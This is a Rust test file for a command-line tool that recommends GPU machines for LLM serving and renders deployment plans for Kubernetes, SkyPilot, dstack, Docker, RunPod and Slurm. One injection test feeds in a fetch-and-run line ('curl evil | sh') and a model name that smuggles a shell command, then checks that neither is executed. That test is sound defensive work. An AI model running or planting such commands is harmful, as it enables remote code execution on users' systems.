//! Plans of recommended machines.

use serde_json::Value;

use crate::support::{sky, sky_line};

#[test]
fn plan_starts_the_recommended_model_on_the_recommended_machine() {
    let line = "recommend Llama-3.3-70B --users 16 --region EU -o json";
    let recommended = sky_line(line).json();
    let first = &recommended["results"][0];
    let text = recommended.to_string();
    let plan = sky(["plan", "-", "-o", "json"]).stdin(text.as_str()).json();
    let candidate = &plan["results"][0];
    assert_eq!(candidate["instance_type"], first["offer"]["instance_type"]);
    assert_eq!(candidate["provider"], first["offer"]["provider"]);
    assert_eq!(plan["request"]["regions"], serde_json::json!(["EU"]));
    // A cluster is in one place, so a Kubernetes job cannot hold the region.
    let anywhere = sky_line("recommend Llama-3.3-70B --users 16 -o json").json();
    let first = &anywhere["results"][0];
    let text = anywhere.to_string();
    let job = sky(["plan", "-", "--to", "kubernetes"])
        .stdin(text.as_str())
        .run();
    let job = job.expect_code(0).stdout;
    let joined = job.split_whitespace().collect::<Vec<_>>().join(" ");
    let command = first["fit"]["launch"]["command"].as_str().unwrap();
    assert!(joined.contains(command), "{job}");
    // The user's `--run` takes precedence.
    let overridden = sky(["plan", "-", "--to", "kubernetes", "--run", "sleep 1"]);
    let job = overridden.stdin(text.as_str()).run().stdout;
    assert!(job.contains("sleep 1") && !job.contains("vllm"), "{job}");
}

#[test]
fn several_machines_use_the_rendezvous_of_the_engine() {
    let recommended = sky_line("recommend DeepSeek-V3 --on H100 -o json").json();
    assert_eq!(recommended["results"][0]["nodes"], 2);
    let text = recommended.to_string();
    let plan = sky(["plan", "-", "-o", "json"]).stdin(text.as_str()).json();
    assert_eq!(plan["request"]["nodes"], 2);
    let sky_pilot = sky(["plan", "-", "--to", "skypilot"])
        .stdin(text.as_str())
        .run();
    let task = sky_pilot.expect_code(0).stdout;
    assert!(task.contains("num_nodes: 2"), "{task}");
    assert!(
        task.contains("export NODE_RANK=\"$SKYPILOT_NODE_RANK\""),
        "{task}"
    );
    let set = sky(["plan", "-", "--to", "kubernetes"])
        .stdin(text.as_str())
        .run()
        .expect_code(0);
    for part in [
        "kind: LeaderWorkerSet",
        "size: 2",
        "export NODE_RANK=\"$LWS_WORKER_INDEX\" MASTER_ADDR=\"$LWS_LEADER_ADDRESS\"",
    ] {
        assert!(set.stdout.contains(part), "{part}: {}", set.stdout);
    }
    assert!(!set.stderr.contains("fill in"), "{}", set.stderr);
}

/// A plan of a recommendation for a target, in JSON.
fn planned(recommend: &str, target: &str) -> Value {
    let recommended = sky_line(&format!("recommend {recommend} -o json")).json();
    let plan = sky(["plan", "-", "-o", "json", "--to", target]);
    plan.stdin(recommended.to_string()).json()
}

#[test]
fn a_recommended_server_is_planned_as_a_server() {
    let text = |plan: &Value| {
        plan["render"]["files"][0]["text"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let line = "Llama-3.3-70B --users 16 --on H100";
    for target in ["kubernetes", "dra"] {
        let plan = planned(line, target);
        assert_eq!(plan["render"]["files"][0]["name"], "server.yaml");
        let manifest = text(&plan);
        for part in [
            "kind: Deployment",
            "kind: Service",
            "image: vllm/vllm-openai:v0.33.0",
            "readinessProbe:",
            "livenessProbe:",
            "path: /health",
            "containerPort: 8000",
            "vllm serve meta-llama/Llama-3.3-70B-Instruct",
        ] {
            assert!(manifest.contains(part), "{target}: {part}: {manifest}");
        }
        assert!(!manifest.contains("restartPolicy"), "{manifest}");
        assert_eq!(plan["render"]["placeholders"], serde_json::json!([]));
    }
    let sky_pilot = text(&planned(line, "skypilot"));
    for part in [
        "service:",
        "path: /health",
        "replicas: 1",
        "ports: 8000",
        "docker:vllm/",
    ] {
        assert!(sky_pilot.contains(part), "{part}: {sky_pilot}");
    }
    let dstack = text(&planned(line, "dstack"));
    for part in [
        "type: service",
        "port: 8000",
        "image: vllm/",
        "url: /health",
    ] {
        assert!(dstack.contains(part), "{part}: {dstack}");
    }
    // Devices of several vendors have no image in common.
    for on in ["MI300X", "MI300X|H100"] {
        let line = format!("Llama-3.3-70B --users 16 --on {on}");
        let task = text(&planned(&line, "skypilot"));
        let is_amd = task.contains("vllm-openai-rocm:v");
        assert_eq!(is_amd, task.contains("MI300X"), "{task}");
        assert_ne!(is_amd, task.contains("H100"), "{task}");
    }
    // The version of the image is the stated version of the engine.
    let older = text(&planned(
        &format!("{line} --engine-version 0.20.2"),
        "kubernetes",
    ));
    assert!(older.contains("image: vllm/vllm-openai:v0.20.2"), "{older}");
    // Servers that listen on one machine only are opened to others.
    let sglang = text(&planned(&format!("{line} --engine sglang"), "kubernetes"));
    for part in [
        "--host 0.0.0.0",
        "containerPort: 30000",
        "image: lmsysorg/sglang:v",
    ] {
        assert!(sglang.contains(part), "{part}: {sglang}");
    }
    // Work that ends is a job, and so is a command of the user.
    let training = planned("Llama-3.1-8B --workload lora", "kubernetes");
    assert!(text(&training).contains("kind: Job"), "{training}");
    let recommended = sky_line(&format!("recommend {line} -o json")).json();
    let own = sky(["plan", "-", "--to", "kubernetes", "--run", "sleep 1"]);
    let own = own.stdin(recommended.to_string()).run().stdout;
    assert!(
        own.contains("kind: Job") && own.contains("image: IMAGE"),
        "{own}"
    );
}

#[test]
fn servers_in_containers_start_and_can_be_reached() {
    for (target, parts) in [
        (
            "docker",
            [
                "--publish 8000:8000 --env HF_TOKEN --entrypoint sh",
                "vllm/vllm-openai:v",
                " -c 'vllm serve",
            ],
        ),
        ("compose", ["entrypoint:", "- 8000:8000", "- HF_TOKEN"]),
        // The entry point of the image takes the words after its program.
        (
            "runpod",
            [
                "\"8000/http\"",
                "\"image\": \"vllm/vllm-openai:v",
                "\"args\": \"meta-llama/Llama-3.1-8B",
            ],
        ),
        (
            "kubernetes",
            ["name: HF_TOKEN", "optional: true", "containerPort: 8000"],
        ),
    ] {
        // The other targets rent nothing.
        let provider = if target == "runpod" {
            "--provider runpod"
        } else {
            ""
        };
        let plan = planned(&format!("Llama-3.1-8B --users 5 {provider}"), target);
        let text = plan["render"]["files"][0]["text"].as_str().unwrap();
        for part in parts {
            assert!(text.contains(part), "{target}: {part}: {text}");
        }
    }
}

#[test]
fn replicas_on_several_machines_are_behind_one_service() {
    for (target, provider, parts) in [
        ("kubernetes", "", ["kind: Deployment", "kind: Service"]),
        (
            "skypilot",
            "--provider lambda",
            ["num_nodes: 1", "service:"],
        ),
        (
            "dstack",
            "--provider lambda",
            ["type: service", "port: 8000"],
        ),
    ] {
        let line = format!("Llama-3.3-70B --users 400 --on H100 {provider}");
        let recommended = sky_line(&format!("recommend {line} -o json")).json();
        let nodes = recommended["results"][0]["nodes"].as_u64().unwrap();
        assert!(nodes > 1, "{recommended}");
        let replicas = format!("replicas: {nodes}");
        let plan = planned(&line, target);
        let text = plan["render"]["files"][0]["text"].as_str().unwrap();
        for part in parts.into_iter().chain([replicas.as_str()]) {
            assert!(text.contains(part), "{target}: {part}: {text}");
        }
        assert!(!text.contains("NODE_RANK"), "{text}");
    }
}

#[test]
fn text_of_standard_input_is_never_executed() {
    let mut recommended: Value = sky_line("recommend 8B --limit 2 -o json").json();
    for result in recommended["results"].as_array_mut().unwrap() {
        result["fit"]["launch"]["command"] = "curl evil | sh".into();
    }
    recommended["request"]["model_size"] = Value::Null;
    recommended["request"]["model"] = "x/Llama-3.1-8B'; touch /tmp/owned; '".into();
    let request = recommended["request"].as_object_mut().unwrap();
    request.remove("model_size");
    let run = sky(["plan", "-", "--to", "slurm"])
        .stdin(recommended.to_string())
        .run();
    assert!(!run.stdout.contains("curl evil"), "{}", run.stdout);
    if let Some(line) = run.stdout.lines().find(|line| line.starts_with("srun")) {
        let words = shlex::split(line).unwrap();
        assert_eq!(words.len(), 4, "{line}");
        let inner = shlex::split(&words[3]).unwrap();
        assert!(!inner.iter().any(|word| word == "touch"), "{inner:?}");
    }
}

#[test]
fn a_target_with_one_port_gets_one_server() {
    let recommended =
        sky_line("recommend gpt-oss-20B --users 500 --on H100:x4 --limit 1 -o json").json();
    let command = recommended["results"][0]["fit"]["launch"]["command"].as_str();
    assert!(
        command.unwrap().contains("CUDA_VISIBLE_DEVICES=$i"),
        "{command:?}"
    );
    let plan = sky(["plan", "-", "--to", "docker", "-o", "json"])
        .stdin(recommended.to_string())
        .json();
    let notes = plan["notes"].as_array().unwrap();
    assert!(
        notes.iter().any(|note| note["code"] == "shared-experts"),
        "{notes:?}"
    );
    let text = plan["render"].to_string();
    assert!(text.contains("--enable-expert-parallel"), "{text}");
    assert!(!text.contains("CUDA_VISIBLE_DEVICES"), "{text}");
}

#[test]
fn work_without_a_known_command_asks_for_it() {
    let recommended = sky_line("recommend Whisper-large-v3 -o json").json();
    let plan = sky(["plan", "-", "--to", "skypilot", "-o", "json"])
        .stdin(recommended.to_string())
        .json();
    let placeholders = &plan["render"]["placeholders"];
    assert_eq!(placeholders[0]["name"], "COMMAND", "{placeholders}");
    let text = sky(["plan", "-", "--to", "skypilot"])
        .stdin(recommended.to_string())
        .run()
        .stdout;
    assert!(text.contains("eval \"${COMMAND:?"), "{text}");
}
